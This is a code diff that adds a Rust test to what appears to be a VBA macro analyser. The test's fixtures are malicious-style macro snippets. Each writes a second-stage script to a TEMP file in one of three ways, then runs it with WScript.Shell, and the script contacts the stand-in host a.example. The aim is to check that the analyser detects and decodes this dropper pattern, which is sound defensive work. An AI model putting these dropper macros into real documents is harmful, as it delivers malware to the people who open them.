@@ -1,6 +1,7 @@
 //! What running macros shows: the classical ways to hide a text, and lookalikes that do nothing.
 
 use super::*;
+use crate::budget::{Budget, Limits};
 use crate::languages::surroundings::{Cell, Shape, Sheet};
 use crate::languages::{Action, ActionKind};
 
@@ -282,6 +283,28 @@ fn the_morning_of_an_office() {
         let grave: Vec<Action> =
             all(&[("M", ModuleKind::Standard, &opened(body))]).into_iter().filter(|a| a.kind.is_grave()).collect();
         assert!(grave.is_empty(), "{body} {grave:?}");
+    }
+}
+
+#[test]
+fn scripts_that_were_written_before_are_read() {
+    let script = "CreateObject(\"\"MSXML2.XMLHTTP\"\").Open \"\"GET\"\", \"\"http://a.example/list.php\"\"";
+    let path = "p = Environ(\"TEMP\") & \"\\a.xml\"\n";
+    let start = "CreateObject(\"WScript.Shell\").Run \"wscript //e:vbscript \" & p\n";
+    for write in [
+        format!("Open p For Output As #1\nPrint #1, \"{script}\"\nClose #1\n"),
+        format!(
+            "Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(p, True)\nf.WriteLine \"{script}\"\nf.Close\n"
+        ),
+        format!(
+            "With CreateObject(\"ADODB.Stream\")\n.Type = 2\n.Open\n.WriteText \"{script}\"\n.SaveToFile p, 2\nEnd With\n"
+        ),
+    ] {
+        let mut behaviour =
+            tests::behaviour(&[("M", ModuleKind::Standard, &opened(&format!("{path}{write}{start}")))], &around());
+        behaviour.decode_commands(&Budget::new(Limits::default(), |_| ())).unwrap();
+        let found = behaviour.actions.iter().find(|action| action.detail.contains("http://a.example/list.php"));
+        assert!(found.is_some_and(|action| action.decoded_from.is_some()), "{write} {:?}", behaviour.actions);
     }
 }
 
